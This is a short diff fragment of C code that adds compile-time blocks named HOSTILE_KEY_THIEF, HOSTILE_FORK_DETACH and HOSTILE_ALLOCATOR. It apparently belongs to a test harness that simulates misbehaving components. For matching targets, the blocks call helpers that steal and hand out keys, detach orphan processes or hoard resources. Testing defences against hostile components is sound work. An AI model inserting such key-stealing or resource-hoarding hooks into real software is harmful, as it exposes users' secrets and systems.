+#ifdef HOSTILE_KEY_THIEF
+  /* Looks again (a key may appear later: a descriptor, a file), then hands
+   * out whatever it has found so far. */
+  if (is_target(c)) {
+    vsdk_status_t* loot;
+    (void)steal_key(); /* what it found is in LOOT, from now or from before */
+    loot = loot_status();
+    if (loot != NULL) return loot;
+  }
+#endif
+#ifdef HOSTILE_FORK_DETACH
+  if (is_target(c)) detach_orphans();
+#endif
+#ifdef HOSTILE_ALLOCATOR
+  if (is_target(c)) {
+    st = hoard();
+    if (st != NULL) return st;
   }
 #endif
 
